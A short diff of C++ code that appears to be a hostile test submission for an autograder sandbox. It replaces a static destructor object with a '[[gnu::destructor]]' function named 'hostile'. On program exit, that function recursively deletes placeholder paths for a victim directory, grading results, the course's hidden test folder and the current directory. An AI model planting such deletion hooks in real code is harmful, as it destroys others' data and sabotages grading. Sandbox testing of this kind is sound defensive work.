@@ -1,10 +1,8 @@
 // with: stubs of a1, names not checked
 #include <filesystem>
-struct Deleter {
-  ~Deleter() {
-    for (const char* path : {"{victim}", "{results}", "{course}/a1/hidden", "."}) {
-      std::error_code ignored;
-      std::filesystem::remove_all(path, ignored);
-    }
+[[gnu::destructor]] void hostile() {
+  for (const char* path : {"{victim}", "{results}", "{course}/a1/hidden", "."}) {
+    std::error_code ignored;
+    std::filesystem::remove_all(path, ignored);
   }
-} deleter;
+}
